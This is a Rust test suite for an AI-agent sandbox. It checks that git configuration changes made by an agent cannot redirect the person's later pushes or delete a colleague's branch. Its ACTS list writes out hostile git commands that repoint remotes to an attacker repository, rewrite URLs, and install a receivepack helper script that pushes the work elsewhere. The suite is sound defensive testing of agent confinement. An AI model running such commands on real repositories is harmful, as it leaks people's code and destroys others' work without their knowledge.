//! Tests git settings for a person's next push, by the repository that the push reaches.

use ipc::confinement::Tier;
use tests::repository::{repository, shell};
use tests::{Finished, User, World, tier};

/// Commands that create the person's remote with a colleague's branch, two branches of the person (one with an
/// upstream), and the attacker's repository. No agent can write to a path of either repository.
const SETUP: &str = "git checkout -q -b main; git init -q --bare -b main ~/hub.git; git init -q --bare ~/evil.git; \
    git remote add origin ~/hub.git; git push -q origin main:colleague; git push -q -u origin main; git branch second; \
    git config user.email me@example.org";

/// The person's commands after those of the agent.
const LATER: &str = "git commit -q --allow-empty -m later; git push -q; git push -q origin; git push -q origin main; \
    git checkout -q second; git push -q; git push -q -u origin HEAD; true";

/// Commands that would send the person's work elsewhere, or make it delete the colleague's branch.
const ACTS: &[(&str, &str)] = &[
    ("address", "git remote set-url origin ~/evil.git"),
    ("address for pushes", "git config remote.origin.pushurl ~/evil.git"),
    ("another address", "git remote set-url --add origin ~/evil.git"),
    ("rewritten", "git config url.$HOME/evil.git.insteadOf $HOME/hub.git"),
    ("rewritten for pushes", "git config url.$HOME/evil.git.pushInsteadOf $HOME/hub.git"),
    ("branch", "git remote add evil ~/evil.git; git config branch.main.remote evil"),
    ("branch for pushes", "git config branch.main.pushRemote ~/evil.git"),
    (
        "branch without upstream",
        "git config branch.second.remote ~/evil.git; git config branch.second.merge refs/heads/second",
    ),
    ("default", "git config remote.pushDefault ~/evil.git; git config push.default current"),
    ("made anew", "git remote remove origin; git remote add origin ~/evil.git"),
    ("renamed", "git remote rename origin old; git remote add origin ~/evil.git"),
    (
        "for this work tree",
        "git config extensions.worktreeConfig true; git config --worktree remote.origin.pushurl ~/evil.git",
    ),
    ("case", "git config REMOTE.origin.PushURL ~/evil.git"),
    ("mirror", "git config remote.origin.mirror true; git update-ref -d refs/remotes/origin/colleague"),
    ("refspec", "git config remote.origin.push :refs/heads/colleague"),
    (
        "helper",
        "printf '#!/bin/sh\\ngit push -q ~/evil.git HEAD:x\\n' > h.sh; chmod +x h.sh; git config remote.origin.receivepack \"$PWD/h.sh;git-receive-pack\"",
    ),
];

fn people(user: User) -> World {
    let world = repository(user);
    shell(&world, SETUP).expect(0);
    world
}

fn sandbox(world: &World, tier: Tier, command: &str) -> Finished {
    Finished::of(world.sandbox(tier, &[], "bash").args(["-c", command]))
}

/// True if the attacker has a commit of the person's, or the colleague has lost one.
fn is_lost(world: &World) -> bool {
    shell(world, LATER);
    let look =
        "git -C ~/evil.git for-each-ref | grep -q . || ! git -C ~/hub.git rev-parse -q --verify colleague";
    shell(world, look).code == 0
}

#[test]
fn a_push_goes_where_the_person_said() {
    for (number, (name, act)) in ACTS.iter().enumerate() {
        let control = people(User::Myself);
        shell(&control, act);
        assert!(is_lost(&control), "{name}: the attack does nothing unconfined");
        // Only one act runs in all tiers: in the full tier git's configuration is read-only, so others would show the same.
        let first = tier::everywhere().into_iter().filter(|_| number == 0);
        for (user, tier) in first.chain([(User::Myself, Tier::Floor)]) {
            let world = people(user);
            let done = sandbox(&world, tier, act);
            assert!(
                !is_lost(&world),
                "{name}, {tier}, {user:?}: {}\n{}",
                done.stderr,
                world.read(".git/config")
            );
            let config = world.read(".git/config");
            assert!(config.contains("/hub.git\n"), "{name}, {tier}: {config}");
        }
    }
}

/// Tests new remotes and branches. They may appear next to the person's, and are reported.
#[test]
fn new_remotes_and_branches_come_and_are_told() {
    let world = people(User::Myself);
    let act = "git remote add fork https://example.org/fork.git; git checkout -q -b new; git config branch.new.remote fork; \
        git config branch.new.merge refs/heads/new; git config user.name agent";
    let done = sandbox(&world, Tier::Floor, act);
    let config = world.read(".git/config");
    for kept in
        ["url = https://example.org/fork.git", "remote = fork", "merge = refs/heads/new", "name = agent"]
    {
        assert!(config.contains(kept), "{kept}: {config}");
    }
    let told = "note: new settings in .git/config, for your next push, fetch or commit: user.name = agent, \
        remote.fork.url = https://example.org/fork.git, remote.fork.fetch = +refs/heads/*:refs/remotes/fork/*, \
        branch.new.remote = fork, branch.new.merge = refs/heads/new";
    assert!(done.stderr.contains(told), "{}", done.stderr);
    // An agent cannot change the author that the person has set.
    let done = sandbox(&world, Tier::Floor, "git config user.email agent@example.org");
    let config = world.read(".git/config");
    assert!(config.contains("email = me@example.org") && !config.contains("agent@"), "{config}");
    assert!(done.stderr.contains("changed and restored: .git/config (user.email"), "{}", done.stderr);
}

/// Tests a clone and a submodule: their settings are separate, although their remotes have the same names.
#[test]
fn other_repositories_have_remotes_of_their_own() {
    let world = people(User::Myself);
    let act =
        "git clone -q ~/hub.git sub; git -c protocol.file.allow=always submodule -q add ~/hub.git module";
    let done = sandbox(&world, Tier::Floor, act).expect(0);
    assert!(!done.stderr.contains("restored"), "{}", done.stderr);
    assert_eq!(shell(&world, "git -C sub fetch -q && git -C module fetch -q").code, 0, "{}", done.stderr);
}

/// Uses two commands, because each begins with the recorded state that the previous one left: the configuration that
/// the second command writes must count as changed, not as new.
#[test]
fn a_configuration_that_is_taken_away_is_put_back_and_a_repository_that_is_goes_as_a_whole() {
    for tier in tier::all() {
        let world = people(User::Myself);
        sandbox(&world, tier, "rm -f .git/config; true");
        sandbox(
            &world,
            tier,
            "git remote set-url origin ~/evil.git || git remote add origin ~/evil.git; true",
        );
        assert!(!is_lost(&world), "{tier}");
        // A repository in the project may go as a whole, as a checkout of a task.
        shell(&world, "git init -q inner && git -C inner config user.email me@example.org").expect(0);
        sandbox(&world, tier, "rm -rf inner").expect(0);
        assert!(!world.project().join("inner").exists(), "{tier}");
    }
}
